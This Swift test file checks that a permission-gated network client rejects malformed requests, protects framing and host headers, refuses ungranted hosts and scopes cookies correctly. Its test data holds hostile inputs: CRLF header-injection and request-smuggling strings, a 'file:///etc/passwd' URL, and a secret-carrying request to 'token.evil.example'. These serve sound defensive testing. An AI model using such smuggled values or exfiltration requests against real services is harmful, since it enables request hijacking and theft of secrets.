import Network
import SharedTypes
import Synchronization
import Testing

@Suite("A request", .timeLimit(.minutes(2)))
struct RequestTests {
    @Test(
        "A request that cannot be sent as it is written is not sent",
        arguments: [
            WebRequest(number: 1, url: "URL", headers: [WebHeader("X", "a\r\nHost: evil")]),
            WebRequest(number: 1, url: "URL", headers: [WebHeader("X", "a\nb")]),
            WebRequest(number: 1, url: "URL", headers: [WebHeader("X", "a\u{0}b")]),
            WebRequest(number: 1, url: "URL", headers: [WebHeader("X\r\nHost", "evil")]),
            WebRequest(number: 1, url: "URL", headers: [WebHeader("", "x")]),
            WebRequest(number: 1, url: "URL", headers: [WebHeader("X:", "x")]),
            WebRequest(number: 1, url: "URL", headers: [WebHeader("X Y", "x")]),
            WebRequest(number: 1, url: "URL", headers: [WebHeader("X", String(repeating: "x", count: 70_000))]),
            WebRequest(number: 1, url: "URL", method: "GET / HTTP/1.1\r\nX: y\r\n\r\nGET"),
            WebRequest(number: 1, url: "URL", method: ""), WebRequest(number: 1, url: "URL", method: "CONNECT"),
            WebRequest(number: 1, url: "URL", method: "Trace"), WebRequest(number: 1, url: "URL", method: "GÉT"),
            WebRequest(number: 1, url: "URL", body: [1]),
            WebRequest(number: 1, url: "URL", method: "POST", body: [1, 2, 3, 4]),
            WebRequest(number: 1, url: "ws://127.0.0.1:PORT/"), WebRequest(number: 1, url: "nonsense"),
            WebRequest(number: 1, url: "file:///etc/passwd"),
        ])
    func unsendable(request: WebRequest) async throws {
        let server = try LocalServer { connection in try connection.answer() }
        let client = NetworkClient(granting: "127.0.0.1:\(server.port)") { $0.bodyLimit = 3 }
        var request = request
        request.url = request.url.replacing("URL", with: server.url()).replacing("PORT", with: "\(server.port)")
        guard case .failure(let failure) = await client.result(request) else { return #expect(Bool(false), "was sent") }
        #expect(failure.kind == .address || failure.kind == .limit)
        #expect(!failure.reason.contains { $0.isNewline } && !failure.reason.contains("evil"))
        #expect(server.connectionCount == 0)
        server.stop()
    }

    @Test("A request cannot set the headers of framing and of the host")
    func forbidden() async throws {
        let seen = Mutex<ServerConnection.Request?>(nil)
        let server = try LocalServer { connection in
            let request = try connection.request()
            seen.withLock { $0 = request }
            try connection.answer()
        }
        let client = NetworkClient(granting: "127.0.0.1:\(server.port)")
        let names = [
            "Host", "CONTENT-LENGTH", "Transfer-Encoding", "Connection", "Upgrade", "TE", "Trailer", "Expect",
            "Keep-Alive",
            "Proxy-Authorization", "Sec-WebSocket-Key", "Via", "HTTP2-Settings", "Date",
        ]
        _ = try await client.get(server.url()) { request in
            request.headers =
                names.map { WebHeader($0, "evil") } + [
                    WebHeader("User-Agent", "own"), WebHeader("X-Ü".replacing("Ü", with: "U"), "ü"),
                ]
        }
        let request = try #require(seen.withLock { $0 })
        #expect(!request.fields.values.contains { $0.contains("evil") })
        #expect(request.fields["user-agent"] == "own" && request.fields["x-u"] == "ü")
        server.stop()
    }

    @Test("A request that was not granted sends nothing, not even a DNS query")
    func refused() async throws {
        struct Nobody: HostResolver {
            let asked = Signal()
            func resolve(_ host: String, _ found: @escaping (Result<[IPAddress], WebFailure>) -> Void) {
                asked.give()
                found(.success([]))
            }
        }
        let names = Nobody()
        let client = NetworkClient(granting: "api.example.org") { $0.resolver = names }
        #expect(
            await client.failure("https://token.evil.example/?k=secret")
                == WebFailure(.refused, "token.evil.example is not granted: --allow-net token.evil.example"))
        #expect(!names.asked.isGiven)
    }

    @Test("carries the cookies that its server set, and those alone")
    func cookies() async throws {
        let server = try LocalServer { connection in
            while true {
                let request = try connection.request()
                switch request.path {
                case "/set":
                    try connection.answer(
                        "200 OK",
                        [
                            "Set-Cookie: a=1; Path=/", "Set-Cookie: b=2; Path=/deep; HttpOnly",
                            "Set-Cookie: c=3; Domain=evil.example",
                            "Set-Cookie: d=4; Secure", "Set-Cookie: e=5; Max-Age=0",
                            "Set-Cookie: f=6; Expires=Thu, 01 Jan 1970 00:00:00 GMT",
                            "Set-Cookie: g=7; Max-Age=1000", "Set-Cookie: =x", "Set-Cookie: nonsense",
                            "Set-Cookie: h=\(String(repeating: "x", count: 5000))",
                        ])
                case "/away": try connection.answer("302 Found", ["Set-Cookie: r=1; Path=/", "Location: /deep/x"])
                case "/many": try connection.answer("200 OK", (0..<200).map { "Set-Cookie: n\($0)=1" })
                default: try connection.answer(text: request.fields["cookie"] ?? "none")
                }
            }
        }
        let client = NetworkClient(granting: "127.0.0.1:\(server.port)")
        #expect(try await client.get(server.url("/")).text == "none")
        let answer = try await client.get(server.url("/set"))
        #expect(answer.headers.filter { $0.name == "Set-Cookie" }.count == 10)
        #expect(try await client.get(server.url("/")).text == "a=1; g=7")
        #expect(try await client.get(server.url("/deep/x")).text == "b=2; a=1; g=7")
        #expect(try await client.get(server.url("/deeper")).text == "a=1; g=7")
        #expect(try await client.get(server.url("/away")).text == "b=2; a=1; g=7; r=1")
        #expect(try await client.get(server.url("/")) { $0.headers = [WebHeader("Cookie", "own=1")] }.text == "own=1")
        _ = try await client.get(server.url("/many"))
        #expect(try await client.get(server.url("/")).text.split(separator: ";").count == 50)
        #expect(try await NetworkClient(granting: "127.0.0.1:\(server.port)").get(server.url("/")).text == "none")
        server.stop()
    }
}
